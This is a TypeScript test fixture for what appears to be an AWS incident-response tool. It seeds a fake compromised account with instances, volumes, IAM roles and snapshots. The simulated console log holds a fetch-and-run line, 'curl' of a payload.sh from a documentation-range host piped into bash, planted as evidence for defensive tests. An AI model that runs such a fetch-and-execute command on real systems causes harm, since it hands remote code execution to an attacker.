/**
 * The seeded victim account: a running web server with two encrypted volumes and an IAM role, a
 * stopped database server, security groups, network interfaces, one completed and one pending
 * snapshot. Ids are fixed so tests can name them; addresses come from documentation ranges.
 */
import { defaultEbsKeyArn } from './ec2-snapshots.js';
import { VICTIM_ACCOUNT_ID } from './credentials.js';
import type { Instance, NetworkInterface, SecurityGroup, Volume } from './model.js';
import type { FakeState } from './state.js';

/** Fixed ids of the seeded resources. */
export const FIXTURE = {
  vpcId: 'vpc-0a1b2c3d4e5f60700',
  subnetId: 'subnet-0a1b2c3d4e5f60710',
  webInstanceId: 'i-0a1b2c3d4e5f60001',
  dbInstanceId: 'i-0a1b2c3d4e5f60002',
  webRootVolumeId: 'vol-0a1b2c3d4e5f60011',
  webDataVolumeId: 'vol-0a1b2c3d4e5f60012',
  dbRootVolumeId: 'vol-0a1b2c3d4e5f60021',
  completedSnapshotId: 'snap-0a1b2c3d4e5f60031',
  pendingSnapshotId: 'snap-0a1b2c3d4e5f60032',
  defaultGroupId: 'sg-0a1b2c3d4e5f60040',
  webGroupId: 'sg-0a1b2c3d4e5f60041',
  sshGroupId: 'sg-0a1b2c3d4e5f60042',
  webEniId: 'eni-0a1b2c3d4e5f60051',
  dbEniId: 'eni-0a1b2c3d4e5f60052',
  /** The two-interface instance `addMultiEniInstance` adds (not seeded by default). */
  multiEniInstanceId: 'i-0a1b2c3d4e5f60003',
  multiEniPrimaryId: 'eni-0a1b2c3d4e5f60053',
  multiEniSecondaryId: 'eni-0a1b2c3d4e5f60054',
  instanceProfileName: 'web-app-profile',
  roleName: 'web-app-role',
  incidentRoleArn: `arn:aws:iam::${VICTIM_ACCOUNT_ID}:role/IncidentResponse`,
  /** Customer managed KMS key id (the web server's root volume). */
  cmkKeyId: '1234abcd-12ab-34cd-56ef-1234567890ab',
  customerPolicyArn: `arn:aws:iam::${VICTIM_ACCOUNT_ID}:policy/web-app-s3-read`,
  awsPolicyArn: 'arn:aws:iam::aws:policy/AmazonSSMManagedInstanceCore',
  userData: '#!/bin/bash\nyum install -y httpd\nsystemctl enable --now httpd\necho "deployed by pipeline" > /var/www/html/index.html\n',
  launchTime: new Date('2024-05-01T08:30:00.000Z'),
} as const;

const DAY = 24 * 3600_000;

const CONSOLE = [
  '[    0.000000] Linux version 6.1.90-99.173.amzn2023.x86_64 (mockbuild@ip-10-0-38-32) #1 SMP PREEMPT_DYNAMIC',
  '[    0.000000] Command line: BOOT_IMAGE=(hd0,gpt1)/boot/vmlinuz-6.1.90 root=UUID=2c3a1b7e ro console=tty0 console=ttyS0,115200n8',
  '[    3.412345] cloud-init[1532]: Cloud-init v. 22.2.2 running \'init\' at Wed, 01 May 2024 08:30:41 +0000.',
  'ci-info: ++++++++++++++++++++++++++++Net device info++++++++++++++++++++++++++++',
  'ci-info: | ens5 | True | 10.0.1.10 | 255.255.255.0 | global | 0a:1b:2c:3d:4e:5f |',
  '[   12.804211] cloud-init[1725]: + curl -s http://198.51.100.7/payload.sh',
  '[   12.905113] cloud-init[1725]: + bash /tmp/payload.sh',
  'Amazon Linux 2023.4.20240429',
  'Kernel 6.1.90-99.173.amzn2023.x86_64 on an x86_64 (-)',
  'ip-10-0-1-10 login: ',
].join('\r\n');

/** Seeds the victim account in `region`; ids are those in FIXTURE. */
export function seedFixture(state: FakeState, region: string): void {
  const owner = VICTIM_ACCOUNT_ID;
  const az = (s: string) => `${region}${s}`;
  const cmk = `arn:aws:kms:${region}:${owner}:key/${FIXTURE.cmkKeyId}`;
  const awsEbsKey = defaultEbsKeyArn(state, owner, region);
  const base = { ownerId: owner, region, tags: [] };

  const groups: SecurityGroup[] = [
    { ...base, groupId: FIXTURE.defaultGroupId, vpcId: FIXTURE.vpcId, groupName: 'default', description: 'default VPC security group', rules: [
      { ruleId: 'sgr-0a1b2c3d4e5f60800', egress: false, ipProtocol: '-1', groupId: FIXTURE.defaultGroupId },
      { ruleId: 'sgr-0a1b2c3d4e5f60801', egress: true, ipProtocol: '-1', cidrIpv4: '0.0.0.0/0' },
    ] },
    { ...base, groupId: FIXTURE.webGroupId, vpcId: FIXTURE.vpcId, groupName: 'web-public', description: 'HTTP and HTTPS from anywhere', rules: [
      { ruleId: 'sgr-0a1b2c3d4e5f60810', egress: false, ipProtocol: 'tcp', fromPort: 80, toPort: 80, cidrIpv4: '0.0.0.0/0' },
      { ruleId: 'sgr-0a1b2c3d4e5f60811', egress: false, ipProtocol: 'tcp', fromPort: 443, toPort: 443, cidrIpv4: '0.0.0.0/0' },
      { ruleId: 'sgr-0a1b2c3d4e5f60812', egress: false, ipProtocol: 'tcp', fromPort: 443, toPort: 443, cidrIpv6: '::/0' },
      { ruleId: 'sgr-0a1b2c3d4e5f60813', egress: true, ipProtocol: '-1', cidrIpv4: '0.0.0.0/0' },
    ], tags: [{ key: 'Name', value: 'web-public' }] },
    { ...base, groupId: FIXTURE.sshGroupId, vpcId: FIXTURE.vpcId, groupName: 'admin-ssh', description: 'SSH from the office', rules: [
      { ruleId: 'sgr-0a1b2c3d4e5f60820', egress: false, ipProtocol: 'tcp', fromPort: 22, toPort: 22, cidrIpv4: '203.0.113.0/24', description: 'office' },
      { ruleId: 'sgr-0a1b2c3d4e5f60821', egress: true, ipProtocol: '-1', cidrIpv4: '0.0.0.0/0' },
    ] },
  ];
  for (const g of groups) state.securityGroups.set(g.groupId, g);

  const volumes: Volume[] = [
    { ...base, volumeId: FIXTURE.webRootVolumeId, availabilityZone: az('a'), sizeGiB: 8, volumeType: 'gp3', iops: 3000, throughput: 125, encrypted: true, kmsKeyId: cmk, snapshotId: 'snap-0ffffffffffff0001', createTime: FIXTURE.launchTime, tags: [{ key: 'Name', value: 'web-1-root' }] },
    { ...base, volumeId: FIXTURE.webDataVolumeId, availabilityZone: az('a'), sizeGiB: 16, volumeType: 'gp3', iops: 3000, throughput: 125, encrypted: true, kmsKeyId: awsEbsKey, createTime: FIXTURE.launchTime, tags: [{ key: 'Name', value: 'web-1-data' }] },
    { ...base, volumeId: FIXTURE.dbRootVolumeId, availabilityZone: az('b'), sizeGiB: 8, volumeType: 'gp2', iops: 100, encrypted: false, createTime: new Date('2023-11-20T10:00:00.000Z'), tags: [] },
  ];
  for (const v of volumes) state.volumes.set(v.volumeId, v);

  const enis: NetworkInterface[] = [
    { ...base, networkInterfaceId: FIXTURE.webEniId, availabilityZone: az('a'), subnetId: FIXTURE.subnetId, vpcId: FIXTURE.vpcId, description: '', macAddress: '0a:1b:2c:3d:4e:5f', privateIpAddress: '10.0.1.10', privateDnsName: 'ip-10-0-1-10.ec2.internal', publicIp: '198.51.100.10', publicDnsName: 'ec2-198-51-100-10.compute-1.amazonaws.com', groupIds: [FIXTURE.webGroupId, FIXTURE.sshGroupId], attachment: { attachmentId: 'eni-attach-0a1b2c3d4e5f60061', instanceId: FIXTURE.webInstanceId, deviceIndex: 0, attachTime: FIXTURE.launchTime, deleteOnTermination: true } },
    { ...base, networkInterfaceId: FIXTURE.dbEniId, availabilityZone: az('b'), subnetId: FIXTURE.subnetId, vpcId: FIXTURE.vpcId, description: '', macAddress: '0a:1b:2c:3d:4e:60', privateIpAddress: '10.0.2.20', privateDnsName: 'ip-10-0-2-20.ec2.internal', groupIds: [FIXTURE.sshGroupId], attachment: { attachmentId: 'eni-attach-0a1b2c3d4e5f60062', instanceId: FIXTURE.dbInstanceId, deviceIndex: 0, attachTime: new Date('2023-11-20T10:00:05.000Z'), deleteOnTermination: true } },
  ];
  for (const e of enis) state.networkInterfaces.set(e.networkInterfaceId, e);

  const common = { ownerId: owner, region, imageId: 'ami-0a1b2c3d4e5f60900', subnetId: FIXTURE.subnetId, vpcId: FIXTURE.vpcId, architecture: 'x86_64', platformDetails: 'Linux/UNIX', rootDeviceName: '/dev/xvda' };
  const instances: Instance[] = [
    {
      ...common,
      instanceId: FIXTURE.webInstanceId,
      reservationId: 'r-0a1b2c3d4e5f60901',
      instanceType: 't3.medium',
      state: 'running',
      stateTransitionReason: '',
      availabilityZone: az('a'),
      launchTime: FIXTURE.launchTime,
      privateIpAddress: '10.0.1.10',
      privateDnsName: 'ip-10-0-1-10.ec2.internal',
      publicIpAddress: '198.51.100.10',
      publicDnsName: 'ec2-198-51-100-10.compute-1.amazonaws.com',
      keyName: 'ops-2024',
      securityGroupIds: [FIXTURE.webGroupId, FIXTURE.sshGroupId],
      iamInstanceProfile: { arn: `arn:aws:iam::${owner}:instance-profile/${FIXTURE.instanceProfileName}`, id: 'AIPACASEWARDWEBAPP001' },
      blockDevices: [
        { deviceName: '/dev/xvda', volumeId: FIXTURE.webRootVolumeId, deleteOnTermination: true, attachTime: new Date(FIXTURE.launchTime.getTime() + 8000) },
        { deviceName: '/dev/sdf', volumeId: FIXTURE.webDataVolumeId, deleteOnTermination: true, attachTime: new Date(FIXTURE.launchTime.getTime() + 9000) },
      ],
      networkInterfaceIds: [FIXTURE.webEniId],
      tags: [{ key: 'Name', value: 'web-1' }, { key: 'env', value: 'prod' }],
      userData: FIXTURE.userData,
      disableApiTermination: false,
      instanceInitiatedShutdownBehavior: 'stop',
      consoleOutput: CONSOLE,
    },
    {
      ...common,
      instanceId: FIXTURE.dbInstanceId,
      reservationId: 'r-0a1b2c3d4e5f60902',
      instanceType: 'r6i.large',
      state: 'stopped',
      stateTransitionReason: 'User initiated (2024-05-02 03:12:09 GMT)',
      stateReason: { code: 'Client.UserInitiatedShutdown', message: 'Client.UserInitiatedShutdown: User initiated shutdown' },
      availabilityZone: az('b'),
      launchTime: new Date('2023-11-20T10:00:00.000Z'),
      privateIpAddress: '10.0.2.20',
      privateDnsName: 'ip-10-0-2-20.ec2.internal',
      securityGroupIds: [FIXTURE.sshGroupId],
      blockDevices: [{ deviceName: '/dev/xvda', volumeId: FIXTURE.dbRootVolumeId, deleteOnTermination: true, attachTime: new Date('2023-11-20T10:00:08.000Z') }],
      networkInterfaceIds: [FIXTURE.dbEniId],
      tags: [{ key: 'Name', value: 'db-1' }, { key: 'env', value: 'prod' }],
      disableApiTermination: true,
      instanceInitiatedShutdownBehavior: 'stop',
    },
  ];
  for (const i of instances) state.instances.set(i.instanceId, i);

  const old = state.createSnapshot({ snapshotId: FIXTURE.completedSnapshotId, ownerId: owner, region, volumeId: FIXTURE.webRootVolumeId, volumeSizeGiB: 8, description: 'nightly backup web-1 root', encrypted: true, kmsKeyId: cmk, tags: [{ key: 'backup', value: 'nightly' }] });
  old.startTime = new Date(state.now() - 7 * DAY);
  state.completeSnapshot(old.snapshotId);
  old.completionTime = new Date(old.startTime.getTime() + 40 * 60_000);
  const pending = state.createSnapshot({ snapshotId: FIXTURE.pendingSnapshotId, ownerId: owner, region, volumeId: FIXTURE.dbRootVolumeId, volumeSizeGiB: 8, description: 'manual db-1', encrypted: false, tags: [] });
  state.holdSnapshot(pending.snapshotId);
  state.setSnapshotProgress(pending.snapshotId, 42);

  seedIam(state, owner);
}

/**
 * Adds a running instance with two network interfaces in different groups (a bastion with a
 * management interface); opt-in so the default fixture's counts stay as other tests expect.
 */
export function addMultiEniInstance(state: FakeState, region = 'us-east-1'): void {
  const owner = VICTIM_ACCOUNT_ID;
  const base = { ownerId: owner, region, tags: [], availabilityZone: `${region}a`, subnetId: FIXTURE.subnetId, vpcId: FIXTURE.vpcId, description: '' };
  const launch = new Date('2024-04-20T09:00:00.000Z');
  const enis: NetworkInterface[] = [
    { ...base, networkInterfaceId: FIXTURE.multiEniPrimaryId, macAddress: '0a:1b:2c:3d:4e:61', privateIpAddress: '10.0.1.30', privateDnsName: 'ip-10-0-1-30.ec2.internal', publicIp: '198.51.100.30', groupIds: [FIXTURE.webGroupId], attachment: { attachmentId: 'eni-attach-0a1b2c3d4e5f60063', instanceId: FIXTURE.multiEniInstanceId, deviceIndex: 0, attachTime: launch, deleteOnTermination: true } },
    { ...base, networkInterfaceId: FIXTURE.multiEniSecondaryId, description: 'management', macAddress: '0a:1b:2c:3d:4e:62', privateIpAddress: '10.0.1.31', privateDnsName: 'ip-10-0-1-31.ec2.internal', groupIds: [FIXTURE.sshGroupId, FIXTURE.defaultGroupId], attachment: { attachmentId: 'eni-attach-0a1b2c3d4e5f60064', instanceId: FIXTURE.multiEniInstanceId, deviceIndex: 1, attachTime: new Date(launch.getTime() + 60_000), deleteOnTermination: false } },
  ];
  for (const e of enis) state.networkInterfaces.set(e.networkInterfaceId, e);
  state.instances.set(FIXTURE.multiEniInstanceId, {
    ownerId: owner, region, imageId: 'ami-0a1b2c3d4e5f60900', subnetId: FIXTURE.subnetId, vpcId: FIXTURE.vpcId, architecture: 'x86_64', platformDetails: 'Linux/UNIX', rootDeviceName: '/dev/xvda',
    instanceId: FIXTURE.multiEniInstanceId,
    reservationId: 'r-0a1b2c3d4e5f60903',
    instanceType: 't3.small',
    state: 'running',
    stateTransitionReason: '',
    availabilityZone: `${region}a`,
    launchTime: launch,
    privateIpAddress: '10.0.1.30',
    privateDnsName: 'ip-10-0-1-30.ec2.internal',
    publicIpAddress: '198.51.100.30',
    securityGroupIds: [FIXTURE.webGroupId, FIXTURE.sshGroupId, FIXTURE.defaultGroupId],
    blockDevices: [],
    networkInterfaceIds: enis.map((e) => e.networkInterfaceId),
    tags: [{ key: 'Name', value: 'bastion-1' }],
    disableApiTermination: false,
    instanceInitiatedShutdownBehavior: 'stop',
  });
}

function seedIam(state: FakeState, owner: string): void {
  const created = new Date('2024-04-30T12:00:00.000Z');
  const trustEc2 = { Version: '2012-10-17', Statement: [{ Effect: 'Allow', Principal: { Service: 'ec2.amazonaws.com' }, Action: 'sts:AssumeRole' }] };
  state.roles.set(FIXTURE.roleName, {
    roleName: FIXTURE.roleName,
    roleId: 'AROACASEWARDWEBAPP001',
    arn: `arn:aws:iam::${owner}:role/${FIXTURE.roleName}`,
    path: '/',
    createDate: created,
    assumeRolePolicy: trustEc2,
    inlinePolicies: {
      'inline-logs': { Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: ['logs:CreateLogStream', 'logs:PutLogEvents'], Resource: '*' }] },
    },
    attachedPolicyArns: [FIXTURE.awsPolicyArn, FIXTURE.customerPolicyArn],
  });
  state.roles.set('IncidentResponse', {
    roleName: 'IncidentResponse',
    roleId: 'AROACASEWARDINCIDENT',
    arn: FIXTURE.incidentRoleArn,
    path: '/',
    createDate: created,
    assumeRolePolicy: { Version: '2012-10-17', Statement: [{ Effect: 'Allow', Principal: { AWS: `arn:aws:iam::${owner}:root` }, Action: 'sts:AssumeRole' }] },
    inlinePolicies: {},
    attachedPolicyArns: [],
  });
  state.instanceProfiles.set(FIXTURE.instanceProfileName, {
    name: FIXTURE.instanceProfileName,
    id: 'AIPACASEWARDWEBAPP001',
    arn: `arn:aws:iam::${owner}:instance-profile/${FIXTURE.instanceProfileName}`,
    path: '/',
    createDate: created,
    roleNames: [FIXTURE.roleName],
  });
  state.managedPolicies.set(FIXTURE.customerPolicyArn, {
    arn: FIXTURE.customerPolicyArn,
    name: 'web-app-s3-read',
    id: 'ANPACASEWARDS3READ01',
    path: '/',
    defaultVersionId: 'v2',
    attachmentCount: 1,
    createDate: created,
    updateDate: new Date('2024-05-01T07:55:00.000Z'),
    versions: {
      v1: { createDate: created, document: { Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: 's3:GetObject', Resource: 'arn:aws:s3:::web-assets/*' }] } },
      v2: { createDate: new Date('2024-05-01T07:55:00.000Z'), document: { Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: ['s3:GetObject', 's3:ListBucket'], Resource: ['arn:aws:s3:::web-assets', 'arn:aws:s3:::web-assets/*', 'arn:aws:s3:::finance-exports/*'] }] } },
    },
  });
  state.managedPolicies.set(FIXTURE.awsPolicyArn, {
    arn: FIXTURE.awsPolicyArn,
    name: 'AmazonSSMManagedInstanceCore',
    id: 'ANPAIXSHM2BNB2D3AXXRU',
    path: '/',
    defaultVersionId: 'v1',
    attachmentCount: 1,
    createDate: new Date('2019-03-15T17:22:12.000Z'),
    updateDate: new Date('2019-03-15T17:22:12.000Z'),
    versions: {
      v1: { createDate: new Date('2019-03-15T17:22:12.000Z'), document: { Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: ['ssm:UpdateInstanceInformation', 'ssmmessages:CreateControlChannel', 'ec2messages:GetMessages'], Resource: '*' }] } },
    },
  });
}
